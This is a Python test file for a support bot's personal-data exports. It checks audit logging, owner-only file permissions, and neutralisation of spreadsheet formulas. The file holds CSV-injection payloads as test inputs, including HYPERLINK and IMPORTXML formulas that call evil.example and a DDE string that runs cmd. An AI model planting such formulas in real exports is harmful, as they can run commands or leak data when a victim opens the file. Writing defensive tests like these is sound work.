"""Exports with personal data: every one is in the audit log, the files the command line writes are
readable by their owner only, and no cell of a workbook or CSV can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import os
import stat

from openpyxl import load_workbook

from bot.services import spreadsheets
from tests.support.bot import run_bot
from tests.support.database import scalar
from tests.support.scenarios import open_question, run_marathon

# Every start a spreadsheet takes for a formula (OWASP "CSV injection"): =, +, -, @, TAB and CR.
FORMULAS = ['=HYPERLINK("http://evil.example","Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


async def log_deed_described(person, t, language: str, kind_name: str, amount: str, place: str, description: str) -> None:
    await person.press(t(language, "📝 Log a deed"))
    await person.press(kind_name)
    await person.send(amount)
    await person.press(t(language, "Today"))
    await person.send(place)
    await person.send(description)
    await person.send_photo("photo of a formula deed")
    await person.press(t(language, "✅ Done"))
    await person.press(t(language, "✅ Log it"))


async def test_no_cell_of_an_export_runs_as_a_formula(citizen, operator, engine, content, t, api):
    await run_marathon(engine, content.rules)
    person = await citizen("en")
    akmola = await operator("akmola", "en", "Nurlan")
    coordinator = await operator("national", "en", "Saule", coordinator=True)

    number = await open_question(person, "en", FORMULAS[0], t)
    card = await akmola.receive(f"№{number}")
    await akmola.press("✋ Take", card)
    for words in FORMULAS[1:]:
        await person.send(words)
    await akmola.send("=IMPORTXML(\"http://evil.example\")", reply_to=card)
    await akmola.press("✅ Close", card)
    await akmola.send("-resolved")
    closed = await person.receive("resolved")
    await person.press("5 ⭐", closed)
    await person.send("@comment")

    record = await coordinator.send(f"/ticket_record {number}")
    book = load_workbook(io.BytesIO(api.files[record.sent[0].document["file_id"]].content))
    fields = {row[0]: row[1] for row in book["ticket"].iter_rows(min_row=2, values_only=True)}
    assert fields["resolution"] == "'-resolved" and fields["rating_comment"] == "'@comment"
    assert fields["citizen_id"] == person.id and fields["rating"] == 5, "numbers stay numbers"
    cells = [row[4] for row in book["messages"].iter_rows(min_row=2)]
    said = [cell.value for cell in cells]
    for words in FORMULAS:
        # (XML turns a stored CR into a line feed when the workbook is read)
        assert "'" + words.replace("\r", "\n") in said, f"{words!r} was not neutralised: {said}"
    assert "'=IMPORTXML(\"http://evil.example\")" in said
    assert not any(cell.data_type == "f" for row in book["messages"].iter_rows() for cell in row)
    conversation = csv_rows(api.files[record.sent[1].document["file_id"]].content)
    texts = [row[4] for row in conversation[1:]]
    for words in FORMULAS:
        assert "'" + words in texts
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in conversation for cell in row)

    # The marathon: a participant's name, a deed's place and description.
    await person.tap("Marathon of Good Deeds")
    await person.press("🙌 Join")
    await person.press("👤 As a person")
    await person.send("=HYPERLINK(\"http://evil.example\")")
    await person.press("✅")
    trees = content.rules.kind("trees")
    await log_deed_described(person, t, "en", trees.name["en"], "12", "+Kokshetau", "-cleaned the shore")
    sent = await coordinator.send("/marathon_export")
    xlsx, participants_csv, deeds_csv = (api.files[m.document["file_id"]].content for m in sent.sent)
    book = load_workbook(io.BytesIO(xlsx))
    [participant] = list(book["participants"].iter_rows(min_row=2, values_only=True))
    assert participant[0] == person.id and participant[2] == "'=HYPERLINK(\"http://evil.example\")"
    [deed] = list(book["deeds"].iter_rows(min_row=2, values_only=True))
    assert (deed[2], deed[7], deed[8]) == ("'=HYPERLINK(\"http://evil.example\")", "'+Kokshetau", "'-cleaned the shore")
    assert deed[5] == 12, "an amount is a number"
    assert csv_rows(participants_csv)[1][2] == "'=HYPERLINK(\"http://evil.example\")"
    assert csv_rows(deeds_csv)[1][7:9] == ["'+Kokshetau", "'-cleaned the shore"]


def test_negative_numbers_stay_numbers_and_texts_that_look_like_them_do_not_run():
    book = load_workbook(io.BytesIO(spreadsheets.workbook({"t": (("n", "text"), [(-5, "-5"), (-1.5, "=1"), (0, "\rx")])})))
    rows = list(book["t"].iter_rows(min_row=2, values_only=True))
    assert rows == [(-5, "'-5"), (-1.5, "'=1"), (0, "'\nx")]
    table = csv_rows(spreadsheets.table_csv(("n", "text"), [(-5, "-5"), (-1.5, "@x")]))
    assert table[1:] == [["-5", "'-5"], ["-1.5", "'@x"]]


async def test_marathon_exports_are_in_the_audit_log(bot, citizen, operator, engine, content, t, api, tmp_path, database_url):
    await run_marathon(engine, content.rules)
    coordinator = await operator("national", "en", "Saule", coordinator=True)
    sent = await coordinator.send("/marathon_export akmola approved")
    assert len(sent.sent) == 3
    url = database_url.replace("+asyncpg", "")
    written = run_bot(tmp_path, "marathon", "export", "--format", "csv", "--region", "almaty", "--out", str(tmp_path / "csv"), DATABASE_URL=url)
    assert written.returncode == 0, written.stderr
    assert "recorded in the audit log" in written.stdout

    lines = [line for line in (await coordinator.send("/audit")).text.splitlines() if "·" in line]
    assert "command line" in lines[0] and "exported the marathon's participants and deeds (almaty)" in lines[0]
    assert "Saule" in lines[1] and "exported the marathon's participants and deeds (akmola, approved)" in lines[1]
    assert await scalar(engine, "SELECT count(*) FROM audit_log WHERE action = 'marathon_export'") == 2


def private(path) -> bool:
    return stat.S_IMODE(os.stat(path).st_mode) == 0o600


async def test_files_the_command_line_writes_are_readable_by_their_owner_only(
    citizen, operator, engine, content, t, tmp_path, database_url
):
    person = await citizen("en")
    number = await open_question(person, "en", "My name is Dana Privatova", t)
    url = database_url.replace("+asyncpg", "")
    # Files that existed before, readable by everyone, and longer than what is written over them.
    old = {name: tmp_path / name for name in ("record.xlsx", "record.csv", "tickets.csv", "marathon.xlsx")}
    (tmp_path / "csv").mkdir(mode=0o755)
    old["participants"] = tmp_path / "csv" / "participants.csv"
    old["deeds"] = tmp_path / "csv" / "deeds.csv"
    for path in old.values():
        path.write_bytes(b"x" * 1_000_000)
        path.chmod(0o644)
    runs = [
        ("tickets", "record", str(number), "--out", str(old["record.xlsx"])),
        ("tickets", "record", str(number), "--format", "csv", "--out", str(old["record.csv"])),
        ("tickets", "export", "--format", "csv", "--out", str(old["tickets.csv"])),
        ("marathon", "export", "--out", str(old["marathon.xlsx"])),
        ("marathon", "export", "--format", "csv", "--out", str(tmp_path / "csv")),
        # A new file, and a new folder of CSV files.
        ("tickets", "record", str(number), "--format", "csv", "--out", str(tmp_path / "new.csv")),
        ("marathon", "export", "--format", "csv", "--out", str(tmp_path / "new-csv")),
    ]
    for args in runs:
        done = run_bot(tmp_path, *args, DATABASE_URL=url)
        assert done.returncode == 0, done.stderr
    for name, path in old.items():
        assert private(path), f"{name}: {oct(stat.S_IMODE(os.stat(path).st_mode))}"
        assert b"x" * 100 not in path.read_bytes(), f"{name} still holds what was there before"
    assert "Dana Privatova" in old["record.csv"].read_text(encoding="utf-8-sig")
    assert load_workbook(old["record.xlsx"])["ticket"]["B2"].value == number
    assert private(tmp_path / "new.csv")
    assert all(private(tmp_path / "new-csv" / name) for name in ("participants.csv", "deeds.csv"))
    assert stat.S_IMODE(os.stat(tmp_path / "new-csv").st_mode) == 0o700
